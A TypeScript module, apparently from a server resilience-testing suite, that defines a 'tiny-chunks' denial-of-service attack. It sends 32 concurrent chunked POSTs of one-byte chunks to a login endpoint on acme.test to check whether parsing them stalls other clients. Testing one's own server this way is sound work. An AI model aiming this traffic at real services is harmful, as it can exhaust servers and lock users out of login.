import { askAgain } from '../again';
import type { Attack } from '../attack';

const CONNECTIONS = 32;
/** Each costs Node's parser as much as a piece of 64 KB. */
const CHUNKS = '1\r\n1\r\n'.repeat(4_000);

export const attack: Attack = {
  name: 'tiny-chunks',
  promises: 'A body in chunks of one byte takes no time that others wait for.',
  async run(target) {
    const head = 'POST /api/auth/login HTTP/1.1\r\nHost: acme.test\r\nContent-Type: application/json\r\n';
    const request = `${head}Transfer-Encoding: chunked\r\n\r\n${CHUNKS}0\r\n\r\n`;
    await Promise.all(Array.from({ length: CONNECTIONS }, () => askAgain(target, request)));
  },
};
